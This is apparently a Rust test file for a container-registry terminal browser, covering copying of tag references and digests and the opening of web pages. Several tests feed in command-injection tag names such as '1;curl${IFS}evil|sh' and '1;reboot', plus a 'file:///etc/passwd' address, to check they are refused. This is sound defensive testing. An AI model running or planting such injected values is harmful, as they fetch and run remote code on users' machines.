//! Copying: references, digests, commands, and names that are not what they seem.

use super::*;

fn copied(driver: &Driver) -> Option<&str> {
    driver
        .effects
        .iter()
        .find_map(|e| if let Effect::Copy { text, .. } = e { Some(text.as_str()) } else { None })
}

#[test]
fn the_reference_of_a_tag_and_of_a_repository() {
    let mut driver = Driver::on_a_tag();
    driver.type_keys("y");
    assert_eq!(copied(&driver), Some("hub.example/app:1"));
    driver.go(&repository("app"));
    driver.type_keys("y");
    assert_eq!(copied(&driver), Some("hub.example/app"));
}

#[test]
fn marked_tags_are_copied_one_a_line() {
    let mut driver = Driver::on_a_tag();
    driver.type_keys("  y");
    assert_eq!(copied(&driver), Some("hub.example/app:1\nhub.example/app:2"));
}

#[test]
fn a_digest_that_is_not_known_is_asked_for_first() {
    let mut driver = Driver::on_a_tag();
    driver.type_keys("Y");
    assert_eq!(copied(&driver), None);
    let id = driver.task(|r| matches!(r, Request::Facts { .. }));
    driver.reply(id, Reply::Facts(Ok(facts("x"))));
    assert_eq!(copied(&driver), Some(Digest::of(b"x").to_string().as_str()));
    // Now it is known.
    driver.type_keys("Y");
    assert!(copied(&driver).is_some());
    assert!(driver.requests().is_empty());
}

#[test]
fn asking_again_for_the_same_digest_cancels_the_first() {
    let mut driver = Driver::on_a_tag();
    driver.type_keys("Y");
    let first = driver.task(|r| matches!(r, Request::Facts { .. }));
    driver.type_keys("Y");
    assert!(driver.effects.contains(&Effect::Cancel(first)));
}

#[test]
fn a_name_that_could_run_as_a_command_is_not_made_into_one() {
    let mut driver = Driver::new(start(vec![connected("hub")]));
    driver.open_repository(&["app"], "app", &["1;reboot"]);
    driver.go(&tag("app", "1;reboot"));
    driver.type_keys("m/pull com");
    driver.key(Key::Enter);
    assert_eq!(copied(&driver), None);
    assert!(driver.notice().contains("no valid reference"));
    driver.type_keys("y");
    assert_eq!(copied(&driver), None, "a reference is pasted behind a command as well");
}

#[test]
fn of_several_names_one_that_could_run_as_a_command_holds_all_back() {
    let evil = "1;curl${IFS}evil|sh";
    let mut driver = Driver::new(start(vec![connected("hub")]));
    driver.open_repository(&["app"], "app", &[evil, "2"]);
    driver.go(&tag("app", evil));
    driver.type_keys("  y");
    assert_eq!(copied(&driver), None);
    assert!(driver.notice().contains("no valid reference"));
}

#[test]
fn a_name_with_control_characters_is_not_copied() {
    let mut driver = Driver::new(start(vec![connected("hub")]));
    driver.open_repository(&["app"], "app", &["1\nreboot\n"]);
    driver.go(&tag("app", "1\nreboot\n"));
    driver.type_keys("y");
    assert_eq!(copied(&driver), None);
}

#[test]
fn the_notice_says_which_way_the_text_took() {
    let mut driver = Driver::on_a_tag();
    let way = Ok("terminal (OSC 52)".to_owned());
    driver.send(Event::Copied { what: "reference".to_owned(), way });
    assert_eq!(driver.notice(), "Copied the reference to the terminal (OSC 52).");
    driver.key(Key::Down);
    assert_eq!(driver.notice(), "", "until the next key");
    assert_eq!(driver.app.notices.len(), 1, "but the log keeps it");
}

#[test]
fn a_page_for_people_is_opened() {
    let mut driver = Driver::on_a_tag();
    driver.type_keys("o");
    let id = driver.task(|r| *r == Request::WebAddress { at: tag("app", "1") });
    let address = "https://hub.example/app".to_owned();
    assert_eq!(driver.reply(id, Reply::WebAddress(Ok(address.clone()))), [Effect::Open(address)]);
    driver.type_keys("o");
    let id = driver.task(|r| matches!(r, Request::WebAddress { .. }));
    assert!(driver.reply(id, Reply::WebAddress(Ok("file:///etc/passwd".to_owned()))).is_empty());
}
